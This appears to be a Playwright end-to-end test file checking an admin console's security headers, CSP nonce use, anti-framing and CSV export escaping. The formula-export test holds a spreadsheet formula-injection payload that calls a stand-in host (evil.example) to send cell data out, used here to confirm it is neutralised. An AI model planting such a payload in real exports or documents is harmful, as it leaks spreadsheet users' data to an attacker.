import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { downloaded, expectText, real, settle, signInAt, demoConsoleSuite } from './console-helpers';

// The console's own defences, in chromium against the real stack: its security headers, a
// Content-Security-Policy that the console itself never violates while in use, no framing, and CSV
// exports that a spreadsheet cannot run as formulas.
describe('admin console security', () => {
  const suite = demoConsoleSuite();

  const signIn = (page: Page, path: string) =>
    signInAt(page, `${suite.stack.adminUrl}`, path, suite.stack.admin.email, suite.stack.admin.password);

  /** Every CSP violation the page reports (the DOM event, not only the console line). */
  async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
    await page.addInitScript(() => {
      const seen: string[] = [];
      (globalThis as unknown as { __cspViolations: string[] }).__cspViolations = seen;
      const g = globalThis as unknown as {
        addEventListener(type: string, listener: (e: unknown) => void): void;
      };
      g.addEventListener('securitypolicyviolation', (e) => {
        const v = e as unknown as { violatedDirective: string; blockedURI: string };
        seen.push(`${v.violatedDirective} ${v.blockedURI}`);
      });
    });
    return () =>
      page.evaluate(() => (globalThis as unknown as { __cspViolations?: string[] }).__cspViolations ?? []);
  }

  it('sends its security headers and violates none of its own policy while in use', async () => {
    const { page, problems } = await suite.newPage();
    const violations = await watchViolations(page);
    // The headers come with the response: no need to wait for a slow first compile's load event.
    const document = await page.goto(`${suite.stack.adminUrl}/sign-in`, {
      waitUntil: 'commit',
      timeout: 240_000,
    });
    const headers = document!.headers();
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers['content-security-policy']).toContain("default-src 'self'");
    expect(headers['x-frame-options']).toBe('DENY');
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
    expect(headers['permissions-policy']).toContain('camera=()');
    // Scripts run by this response's nonce only: an injected inline script does not.
    const scripts = headers['content-security-policy']!.split(';').find((d) =>
      d.trim().startsWith('script-src'),
    );
    expect(scripts).not.toContain("'unsafe-inline'");
    const nonce = scripts?.match(/'nonce-([^']+)'/)?.[1];
    expect(nonce).toBeTruthy();
    const html = await document!.text();
    const inline = [...html.matchAll(/<script(?![^>]*\bsrc=)[^>]*>/g)].map((m) => m[0]);
    expect(inline.length).toBeGreaterThan(0);
    expect(inline.filter((tag) => !tag.includes(`nonce="${nonce}"`))).toEqual([]);

    // Queries over HTTP and the live updates over the WebSocket, across several pages.
    await signIn(page, '/flags');
    await page.getByTestId('flags-total').waitFor({ timeout: 60_000 });
    for (const path of ['/flags/new-checkout', '/experiments', '/audit', '/segments']) {
      await page.goto(`${suite.stack.adminUrl}${path}`);
      await settle(page);
      expect(await violations()).toEqual([]);
    }
    expect(real(problems).filter((p) => /Content Security Policy|Refused to/i.test(p))).toEqual([]);
  }, 300_000);

  it('cannot be framed by another page', async () => {
    const { page } = await suite.newPage();
    // A page of another origin on this machine (a public one would be stopped by Private Network Access
    // anyway, whatever the console says) that shows the console in a frame.
    const framing = createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(`<iframe src="${suite.stack.adminUrl}/sign-in"></iframe>`);
    });
    await new Promise<void>((resolve) => framing.listen(0, '127.0.0.1', resolve));
    try {
      const { port } = framing.address() as AddressInfo;
      await page.goto(`http://127.0.0.1:${port}/`, { waitUntil: 'load', timeout: 240_000 });
      // The frame's navigation may still be under way after the page's load on a busy machine (its
      // URL is "" until it commits): wait for it to commit, to whatever it commits to.
      const committed = () => {
        const f = page.frames().find((f) => f !== page.mainFrame());
        return f && f.url() !== '' && f.url() !== 'about:blank' ? f : null;
      };
      for (const deadline = Date.now() + 120_000; !committed() && Date.now() < deadline; )
        await new Promise((r) => setTimeout(r, 100));
      const frame = committed() ?? page.frames().find((f) => f !== page.mainFrame());
      // The browser refused to show it: an error page instead of the console's document.
      expect(frame?.url()).toBe('chrome-error://chromewebdata/');
      expect(await frame!.locator('form').count()).toBe(0);
    } finally {
      await new Promise((resolve) => framing.close(resolve));
    }
  }, 300_000);

  it('exports a flag named like a formula as text, not a formula', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
    await suite.stack.gqlOk('mutation($input: CreateFlagInput!) { createFlag(input: $input) { key } }', {
      input: { key: 'e2e-csv-formula', name: formula, type: 'BOOLEAN', tags: ['e2e-csv'] },
    });
    const { page, problems } = await suite.newPage();
    await signIn(page, '/flags');
    await page.getByRole('combobox', { name: 'Tag' }).fill('e2e-csv');
    await expectText(page.getByTestId('flags-total'), '1 flag match', 60_000);
    const csv = (await downloaded(page, 'Export CSV')).trim().split('\n');
    expect(csv[1]).toMatch(
      /^e2e-csv-formula,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""open""\)",BOOLEAN,/,
    );
    expect(real(problems)).toEqual([]);
  }, 300_000);
});
